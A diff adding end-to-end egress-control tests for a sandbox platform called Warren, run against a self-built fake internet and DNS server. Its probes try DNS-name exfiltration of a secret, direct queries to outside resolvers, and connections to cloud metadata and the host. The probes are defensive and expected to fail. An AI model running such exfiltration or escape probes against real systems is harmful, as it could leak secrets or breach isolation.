@@ -1,0 +1,325 @@
+"""Egress control (issue 5), against a fake internet the test builds itself:
+
+- a network namespace of the test's own (`fakenet`), linked to the host, whose addresses
+  198.18.0.2-.4 serve HTTP (each answers with the address it was reached on, and `/stream` never
+  ends);
+- a DNS server on the host's loopback that Warren's DNS filter forwards to (`[network]
+  dns_upstream`), answering the `.test` zone and logging every name it is asked.
+
+No packet goes anywhere else: sandboxes' DNS is answered by Warren, their traffic goes to the fake
+internet's addresses or is refused. Native runtime (embedded, runc): the others refuse policies that
+allow anything with a clear 400 (tested too)."""
+
+from __future__ import annotations
+
+import os
+import secrets
+import socket
+import socketserver
+import subprocess
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+import warren_e2e as W
+
+ZONE = {
+    "allowed.test": "198.18.0.2",
+    "other.test": "198.18.0.3",
+    "api.wild.test": "198.18.0.4",
+    "denied.test": "198.18.0.3",
+}
+
+HTTP_SERVER = r'''
+import http.server, socketserver, sys, time
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def do_GET(self):
+        local = self.connection.getsockname()[0]
+        if self.path == "/stream":
+            self.send_response(200); self.send_header("Transfer-Encoding", "chunked"); self.end_headers()
+            try:
+                while True:
+                    line = f"tick from {local}\n".encode()
+                    self.wfile.write(b"%x\r\n%s\r\n" % (len(line), line)); self.wfile.flush()
+                    time.sleep(0.05)
+            except OSError:
+                return
+        body = f"hello from {local} auth={self.headers.get('Authorization')}\n".encode()
+        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *a): pass
+class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+S(("0.0.0.0", 80), H).serve_forever()
+'''
+
+
+def _dns_answer(query: bytes, names: list[str]) -> bytes:
+    """A minimal authoritative answer for the zone (A records only)."""
+    pos, labels = 12, []
+    while query[pos]:
+        n = query[pos]
+        labels.append(query[pos + 1:pos + 1 + n].decode().lower())
+        pos += n + 1
+    qend = pos + 5
+    qtype = int.from_bytes(query[pos + 1:pos + 3], "big")
+    name = ".".join(labels)
+    names.append(name)
+    ip = ZONE.get(name)
+    header = bytearray(query[:12])
+    header[2] = 0x84 | (query[2] & 1)
+    header[3] = 0x80 | (0 if ip else 3)
+    header[6:12] = (1 if ip and qtype == 1 else 0).to_bytes(2, "big") + b"\0\0\0\0"
+    out = bytes(header) + query[12:qend]
+    if ip and qtype == 1:
+        out += b"\xc0\x0c\x00\x01\x00\x01" + (30).to_bytes(4, "big") + b"\x00\x04" + socket.inet_aton(ip)
+    return out
+
+
+@pytest.fixture(scope="module")
+def fakenet(work_root):
+    tag = secrets.token_hex(2)
+    ns, host_if = f"wfn{tag}", f"wfh{tag}"
+    run = lambda *a: subprocess.run(a, check=True, capture_output=True)  # noqa: E731
+    run("ip", "netns", "add", ns)
+    procs = []
+    try:
+        run("ip", "link", "add", host_if, "type", "veth", "peer", "name", "eth0", "netns", ns)
+        run("ip", "addr", "add", "198.18.0.1/24", "dev", host_if)
+        run("ip", "link", "set", host_if, "up")
+        for a in ("198.18.0.2/24", "198.18.0.3/24", "198.18.0.4/24"):
+            run("ip", "-n", ns, "addr", "add", a, "dev", "eth0")
+        run("ip", "-n", ns, "link", "set", "eth0", "up")
+        run("ip", "-n", ns, "link", "set", "lo", "up")
+        script = work_root / f"fakenet-{tag}.py"
+        script.write_text(HTTP_SERVER)
+        procs.append(subprocess.Popen(["ip", "netns", "exec", ns, "python3", str(script)]))
+        names: list[str] = []
+        dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        dns.bind(("127.0.0.1", 0))
+        stop = threading.Event()
+
+        def serve():
+            dns.settimeout(0.2)
+            while not stop.is_set():
+                try:
+                    q, addr = dns.recvfrom(4096)
+                except OSError:
+                    continue
+                dns.sendto(_dns_answer(q, names), addr)
+
+        t = threading.Thread(target=serve, daemon=True)
+        t.start()
+        deadline = time.time() + 10
+        while True:
+            try:
+                socket.create_connection(("198.18.0.2", 80), timeout=1).close()
+                break
+            except OSError:
+                assert time.time() < deadline, "the fake internet did not come up"
+                time.sleep(0.05)
+        yield {"ns": ns, "dns_port": dns.getsockname()[1], "names": names, "host_ip": "198.18.0.1"}
+        stop.set()
+        t.join(2)
+        dns.close()
+    finally:
+        for p in procs:
+            p.terminate()
+            p.wait(5)
+        subprocess.run(["ip", "link", "del", host_if], capture_output=True)
+        subprocess.run(["ip", "netns", "del", ns], capture_output=True)
+
+
+@pytest.fixture(scope="module")
+def net_server(server, work_root, fakenet):
+    """A server of the same runtime whose DNS filter forwards to the fake internet's DNS."""
+    srv = W.WarrenServer(server.runtime, work_root, f"{server.runtime}-net-{uuid.uuid4().hex[:6]}")
+    srv.extra_config = (f'[network]\nsubnet = "10.231.{abs(hash(server.runtime)) % 200}.0/24"\n'
+                        f'dns_upstream = "127.0.0.1:{fakenet["dns_port"]}"\n')
+    srv.start()
+    yield srv
+    srv.delete_all_sandboxes()
+    srv.stop()
+
+
+def _native_net(srv) -> None:
+    if srv.is_docker or srv.gvisor:
+        pytest.skip("sandbox networking: native runtime (embedded, runc) only")
+
+
+def create(srv, policy):
+    from opensandbox import SandboxSync
+    from opensandbox.models.sandboxes import NetworkPolicy
+    kw = {}
+    if policy is not None:
+        kw["network_policy"] = NetworkPolicy.model_validate(policy)
+    sbx = SandboxSync.create(srv.sandbox_image("host"), connection_config=srv.sdk_config(), **kw)
+    W.track_sandbox(sbx.id)
+    return sbx
+
+
+FETCH = ("python3 -c \"import sys,urllib.request; "
+         "print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode().strip())\" ")
+RESOLVE = "python3 -c \"import socket,sys; print(socket.gethostbyname(sys.argv[1]))\" "
+CONNECT = ("python3 -c \"import socket,sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), "
+           "timeout=3); print('connected')\" ")
+
+
+def test_allow_and_deny_by_name_and_wildcard(net_server, fakenet):
+    _native_net(net_server)
+    sbx = create(net_server, {"defaultAction": "deny", "egress": [
+        {"action": "allow", "target": "allowed.test"},
+        {"action": "allow", "target": "*.wild.test"}]})
+    try:
+        code, out, err = W.sh(sbx, FETCH + "http://allowed.test/")
+        assert (code, out.strip()) == (0, "hello from 198.18.0.2 auth=None"), err
+        code, out, err = W.sh(sbx, FETCH + "http://api.wild.test/")
+        assert code == 0 and "198.18.0.4" in out, err
+        for name in ("denied.test", "wild.test", "other.test"):
+            code, out, err = W.sh(sbx, RESOLVE + name)
+            assert code != 0, f"{name} resolved to {out}"
+        assert "denied.test" not in fakenet["names"], "a denied name was forwarded upstream"
+        # A raw address that no allowed answer gave: refused, not just unanswered.
+        code, out, err = W.sh(sbx, CONNECT + "198.18.0.3 80")
+        assert code != 0 and "connected" not in out
+    finally:
+        sbx.kill()
+
+
+def test_dns_tunnels_and_other_resolvers_go_nowhere(net_server, fakenet):
+    _native_net(net_server)
+    sbx = create(net_server, {"defaultAction": "deny", "egress": [{"action": "allow", "target": "allowed.test"}]})
+    try:
+        secret = secrets.token_hex(8)
+        # Exfiltration through names: NXDOMAIN, and the upstream never hears of them.
+        code, _, _ = W.sh(sbx, RESOLVE + f"{secret}.exfil.test")
+        assert code != 0
+        # Another resolver, asked directly: the query is answered by Warren all the same.
+        probe = ("python3 -c \"import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); "
+                 "s.settimeout(3); q=bytes.fromhex('abcd01000001000000000000')+b''.join(bytes([len(l)])+l.encode() "
+                 "for l in sys.argv[2].split('.'))+bytes.fromhex('0000010001'); s.sendto(q,(sys.argv[1],53)); "
+                 "r=s.recv(512); print('rcode', r[3]&15)\" ")
+        code, out, err = W.sh(sbx, probe + f"198.18.0.3 {secret}2.exfil.test")
+        assert code == 0 and "rcode 3" in out, (out, err)
+        code, out, err = W.sh(sbx, probe + "8.8.8.8 allowed.test")
+        assert code == 0 and "rcode 0" in out, (out, err)
+        assert not [n for n in fakenet["names"] if secret in n], fakenet["names"]
+        # DNS over TLS/HTTPS to an address no answer gave: refused.
+        code, out, _ = W.sh(sbx, CONNECT + "198.18.0.3 853")
+        assert code != 0
+    finally:
+        sbx.kill()
+
+
+def test_sandboxes_cannot_reach_each_other_or_the_host(net_server, fakenet):
+    _native_net(net_server)
+    a = create(net_server, {"defaultAction": "allow"})
+    b = create(net_server, {"defaultAction": "allow"})
+    try:
+        W.sh(b, "nohup python3 -m http.server 8000 >/dev/null 2>&1 &")
+        # (UDP connect sends nothing: it only picks the source address.)
+        my_ip = ("python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+                 "s.connect(('198.18.0.2', 9)); print(s.getsockname()[0])\"")
+        code, b_ip, err = W.sh(b, my_ip)
+        assert code == 0 and b_ip.strip().startswith("10.231."), (b_ip, err)
+        gateway = ("python3 -c \"import socket,struct; r=[l.split() for l in open('/proc/net/route')][1:]; "
+                   "print(socket.inet_ntoa(struct.pack('<L', int([x for x in r if x[1]=='00000000'][0][2], 16))))\"")
+        code, gw, err = W.sh(a, gateway)
+        assert code == 0, err
+        time.sleep(0.5)
+        assert W.sh(b, CONNECT + "127.0.0.1 8000")[0] == 0, "b's server runs"
+        assert W.sh(a, CONNECT + f"{b_ip.strip()} 8000")[0] != 0, "sandbox to sandbox"
+        assert W.sh(a, CONNECT + f"{gw.strip()} {net_server.port}")[0] != 0, "sandbox to Warren's API via its gateway"
+        assert W.sh(a, CONNECT + f"{fakenet['host_ip']} {net_server.port}")[0] != 0, "sandbox to a host address"
+        assert W.sh(a, CONNECT + "169.254.169.254 80")[0] != 0, "link-local (cloud metadata)"
+        # Allow-all still reaches the (fake) internet by address.
+        code, out, err = W.sh(a, FETCH + "http://198.18.0.3/")
+        assert code == 0 and "198.18.0.3" in out, err
+        code, out, _ = W.sh(a, "cat /proc/net/if_inet6 2>/dev/null | grep -v ' lo$' | wc -l")
+        assert out.strip() == "0", "no IPv6 on the sandbox link"
+    finally:
+        a.kill()
+        b.kill()
+
+
+def test_policy_api_and_live_changes(net_server, fakenet):
+    _native_net(net_server)
+    from opensandbox.models.sandboxes import NetworkRule
+    sbx = create(net_server, {"defaultAction": "deny", "egress": [{"action": "allow", "target": "allowed.test"}]})
+    try:
+        policy = sbx.get_egress_policy()
+        assert policy.default_action == "deny" and [r.target for r in policy.egress] == ["allowed.test"]
+        assert W.sh(sbx, RESOLVE + "other.test")[0] != 0
+        sbx.patch_egress_rules([NetworkRule(action="allow", target="other.test")])
+        code, out, err = W.sh(sbx, FETCH + "http://other.test/")
+        assert code == 0 and "198.18.0.3" in out, err
+        sbx.delete_egress_rules(["other.test"])
+        assert W.sh(sbx, RESOLVE + "other.test")[0] != 0
+
+        # A live stream to a name that becomes denied is cut.
+        W.sh(sbx, "nohup python3 -c \"import urllib.request,sys; r=urllib.request.urlopen('http://allowed.test/stream', timeout=30)\n"
+                  "f=open('/tmp/stream.log','ab')\nfor line in r: f.write(line); f.flush()\" >/tmp/stream.err 2>&1 &")
+        deadline = time.time() + 10
+        while int(W.sh(sbx, "wc -l < /tmp/stream.log 2>/dev/null || echo 0")[1].strip() or 0) < 5:
+            assert time.time() < deadline, "the stream never started"
+            time.sleep(0.1)
+        sbx.patch_egress_rules([NetworkRule(action="deny", target="allowed.test")])
+        time.sleep(0.5)
+        before = int(W.sh(sbx, "wc -l < /tmp/stream.log")[1].strip())
+        time.sleep(1.0)
+        after = int(W.sh(sbx, "wc -l < /tmp/stream.log")[1].strip())
+        assert after - before <= 1, f"the stream kept flowing after the deny ({before} -> {after})"
+        assert W.sh(sbx, FETCH + "http://allowed.test/")[0] != 0
+
+        # The lifecycle route sees the same policy; bad rules are 400s that change nothing.
+        with net_server.client() as c:
+            r = c.get(f"/v1/sandboxes/{sbx.id}/networkpolicy")
+            assert r.status_code == 200 and r.json()["policy"]["egress"][0] == {"action": "deny", "target": "allowed.test"}
+            W.assert_error_body(c.patch(f"/v1/sandboxes/{sbx.id}/networkpolicy",
+                                        json=[{"action": "allow", "target": "bad name!"}]), codes=[400])
+            r = c.put(f"/v1/sandboxes/{sbx.id}/networkpolicy", json={"defaultAction": "allow"})
+            assert r.status_code == 200 and r.json()["mode"] == "allow_all"
+        code, out, err = W.sh(sbx, FETCH + "http://198.18.0.2/")
+        assert code == 0, err
+    finally:
+        sbx.kill()
+
+
+def test_default_deny_has_no_link_and_bad_policies_are_refused(net_server):
+    with net_server.client() as c:
+        body = W.create_body(net_server.sandbox_image("host"))
+        body["networkPolicy"] = {"defaultAction": "deny", "egress": [{"action": "allow", "target": "*.*.test"}]}
+        W.assert_error_body(c.post("/v1/sandboxes", json=body), codes=[400])
+        body["networkPolicy"] = {"defaultAction": "sometimes"}
+        W.assert_error_body(c.post("/v1/sandboxes", json=body), codes=[400])
+        if net_server.is_docker or net_server.gvisor:
+            body["networkPolicy"] = {}
+            r = c.post("/v1/sandboxes", json=body)
+            W.assert_error_body(r, codes=[400])
+            assert "network" in r.json()["message"]
+            return
+    sbx = create(net_server, None)
+    try:
+        code, out, _ = W.sh(sbx, "ls /sys/class/net")
+        assert code == 0 and out.split() == ["lo"], out
+    finally:
+        sbx.kill()
+
+
+def test_links_are_removed_with_their_sandboxes(net_server):
+    _native_net(net_server)
+    sbx = create(net_server, {"defaultAction": "allow"})
+    links_before = set(os.listdir("/sys/class/net"))
+    sbx.kill()
+    deadline = time.time() + 5
+    while True:
+        mine = [l for l in os.listdir("/sys/class/net") if l.startswith("w") and "-" in l and l[1:5].isalnum() and len(l.split("-")[0]) == 5]
+        if not (set(mine) & links_before):
+            break
+        assert time.time() < deadline, f"links left: {mine}"
+        time.sleep(0.1)
